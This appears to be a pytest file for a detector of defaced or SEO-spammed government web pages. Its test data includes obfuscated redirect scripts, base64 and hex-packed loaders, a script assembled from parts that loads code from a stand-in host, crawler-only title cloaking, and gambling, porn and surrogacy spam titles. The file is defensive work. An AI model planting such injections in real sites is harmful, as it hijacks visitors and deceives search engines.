"""Scripts in disguise are undone and then judged by what they do; titles by whom they fit."""

from __future__ import annotations

from base64 import b64encode

import pytest
from read_tools import read
from tests.golden.heldout15.making.checks_injected import PACKED, PACKED_HEX, PACKER

from xuncha.read.intruders.spam import says_intruder, sells, spam_words
from xuncha.report.words import TRICKS

URL = "http://www.shili.gov.cn/index.html"
PLAIN = "<p>本县召开工作会议,部署下一阶段工作。</p>" * 20
AWAY = "location.href='https://www.hg-vip.example/';"


def signs(script: str = "", title: str = "示例县人民政府", body: str = ""):
    scripts = f"<script>{script}</script>" if script else ""
    html = f"<html><head><title>{title}</title>{scripts}</head><body>{PLAIN}{body}</body></html>"
    return read(URL, html).signs


def coded(text: str, form: str = "&#{};") -> str:
    return "".join(form.format(ord(one)) for one in text)


@pytest.mark.parametrize(
    "script",
    [
        PACKED,
        f'eval(unescape("{"".join(f"%{ord(c):02x}" for c in AWAY)}"));',
        'if(navigator.userAgent.toLocaleLowerCase().indexOf("baidu") == -1){document.title ="示例县"}',
    ],
)
def test_scripts_in_disguise(script: str) -> None:
    assert signs(script).tricks


def test_a_script_as_data() -> None:
    coded_away = b64encode(AWAY.encode()).decode()
    element = '<script src="data:text/javascript;base64,{}"></script>'
    assert signs(body=element.format(coded_away)).tricks
    # So do programs that make pages quick, with the page's own scripts.
    own = b64encode(b"$(function(){$('.tab').tabs();});").decode()
    assert not signs(body=element.format(own)).tricks


def test_a_script_written_from_parts() -> None:
    script = 'var a="//js.",b="users-tj",c=".example/1.js";document.write("<script src=\'"+a+b+c+"\'><\\/script>");'
    assert signs(script).loaded == (("script", "http://js.users-tj.example/1.js"),)


@pytest.mark.parametrize(
    "script",
    [
        PACKER
        + "('1.2(\\'<0 3=\"/4/5.4\"></0>\\');',6,6,'script|document|write|src|js|common'.split('|'),0,{}))",
        PACKER
        + "('1.2(\\'<0 3=\"//4.5.6/7.8\"></0>\\');',9,9,'script|document|write|src|hm|baidu|com|hm|js'.split('|'),0,{}))",
        "if(top.location!==self.location && document.referrer.indexOf('baidu.com')<0){top.location.href=location.href;}",
        "if(navigator.userAgent.indexOf('baiduboxapp')>-1){document.title='示例县'}",
        "document.write(unescape('%3Cspan%20id=a%3E%3C/span%3E'));",
    ],
)
def test_scripts_that_only_look_so(script: str) -> None:
    assert not signs(script).tricks


def test_a_packed_script_in_hexadecimal() -> None:
    assert "coded_script" in signs(PACKED_HEX).tricks
    # What a program for encodings writes.
    own = PACKER + "('0=/[\\\\1-\\\\2\\\\3-\\\\4]/;',5,5,'r|xc0|xdf|x80|xbf'.split('|'),0,{}))"
    assert not signs(own).tricks


@pytest.mark.parametrize("form", ["&#{};", "&#x{:X};"])
def test_a_title_in_numbers_that_fits_the_page_is_the_systems_way(form: str) -> None:
    """One framework writes every Chinese character of a title and of attributes as a number."""
    assert not signs(title=coded("本县召开工作会议", form)).coded_title
    assert not signs(
        title=coded("示例县人民政府", form), body="<p>主办:示例县人民政府</p>"
    ).coded_title
    assert signs(title=coded("北京赛车正规开户平台", form)).coded_title


@pytest.mark.parametrize(
    "title",
    [
        "Hacked By Sh4d0w",
        "0wned by ReD-Fox Crew",
        "黑客入侵 网站已被黑",
        "本站已被黑!",
        "您的网站已经被入侵",
    ],
)
def test_boasts(title: str) -> None:
    assert says_intruder(title)


@pytest.mark.parametrize(
    "title",
    ["关于防范网站被黑的预警", "某网站被黑客入侵 警方介入", "网站被入侵怎么办", "黑客入侵应急演练"],
)
def test_reports_about_them(title: str) -> None:
    assert not says_intruder(title)


@pytest.mark.parametrize(
    "title",
    [
        "亚洲欧美日韩国产综合一区二区三区在线观看免费视频",
        "日韩欧美国产精品自拍",
        "澄湖代孕公司_包成功代孕_代孕价格表",
        "800vip彩票网官方版-800vip彩票网官方app下载苹果端",
        "澳门跑狗图-王中王论坛",
    ],
)
def test_titles_that_sell(title: str) -> None:
    assert sells(title)


@pytest.mark.parametrize(
    "title",
    [
        "亚洲、欧美、日韩市场在线推介会观看人数创新高",
        "国产日韩合资企业免费开放参观",
        "厂房一区二区三区在线选房",
        "非法代孕机构价格表曝光",
        "中国福利彩票网官方公告",
        "体育彩票网官方微信开通",
        "宠物跑狗公园免费开放",
        "国产自拍无人机免费体验",
    ],
)
def test_titles_that_do_not(title: str) -> None:
    assert not sells(title), spam_words(title)


def test_an_object_of_a_stranger_is_loaded_like_a_frame() -> None:
    element = '<object data="{}" width="0" height="0" type="text/html"></object>'
    assert signs(body=element.format("http://tj.cnt-flow.example/x.html")).loaded
    assert not signs(body=element.format("/flash/banner.swf")).loaded


def test_a_title_for_spiders_is_told_as_that() -> None:
    script = 'if(navigator.userAgent.indexOf("Baiduspider")>0){document.title="北京赛车"}'
    assert signs(script).tricks == ("spider_title",)
    assert "标题" in TRICKS["spider_title"]
